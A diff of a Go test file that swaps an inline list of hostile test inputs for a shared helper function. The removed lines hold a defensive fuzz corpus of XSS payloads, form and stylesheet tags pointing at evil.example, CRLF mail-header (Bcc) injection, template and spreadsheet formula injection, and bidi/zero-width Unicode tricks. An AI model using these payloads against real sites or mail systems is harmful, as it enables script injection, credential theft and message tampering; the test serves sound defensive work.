@@ -16,21 +16,7 @@ import (
 )
 
 // hostile are texts that strangers may put into replies, senders, domains and addresses.
-var hostile = []string{
-	"<script>alert(1)</script>", "</td></tr></table><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
-	"<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "</svg><script>alert(1)</script>", "</title><script>alert(1)</script>",
-	"</style><script>alert(1)</script>", "<style>*{display:none}</style>", "<style>@import url(https://evil.example/x.css);</style>",
-	"<link rel=stylesheet href=https://evil.example/x.css>", "<iframe src=javascript:alert(1)></iframe>", "<a href=javascript:alert(1)>x</a>",
-	"<form action=https://evil.example><input name=password>", "<meta http-equiv=refresh content=0;url=https://evil.example>", "<base href=https://evil.example/>",
-	"<object data=x></object>", "<embed src=x>", "<video><source onerror=alert(1)>", "<math><mtext></mtext></math>", "<details open ontoggle=alert(1)>",
-	"\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "` onmouseover=`alert(1)", "\"><script>alert(1)</script>", "'-alert(1)-'", "\\\";alert(1)//",
-	"javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
-	"{{.}}", "{{template \"mail\"}}", "${7*7}", "<%= 7*7 %>", "%0d%0aSet-Cookie: x=1", "&lt;script&gt;", "&#60;script&#62;", "<!-- -->", "--><script>alert(1)</script>",
-	"]]><script>alert(1)</script>", "<?xml version=\"1.0\"?>", "<!DOCTYPE x [<!ENTITY a \"b\">]>",
-	"\x00NUL", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\u009b31m", "\u202egnp.exe", "\u2066isolated", "\u200bzero\u200dwidth", "\ufeffBOM", "\u2028line", "\U000E0041tag",
-	"\xff\xfe\xc3", "a\r\nBcc: victim@evil.example\r\n\r\nbody", ".\n.\r\n", "=cmd|' /C calc'!A0", strings.Repeat("A", 1<<20), strings.Repeat("ｗ", 500), strings.Repeat("a\u0308", 500),
-	"user+<b>@example.com", "xn--\u202e.example",
-}
+var hostile = pagetest.Hostile()
 
 // hostileDigest has a hostile text wherever a stranger may put one.
 func hostileDigest(t *testing.T, foreign string) *Digest {
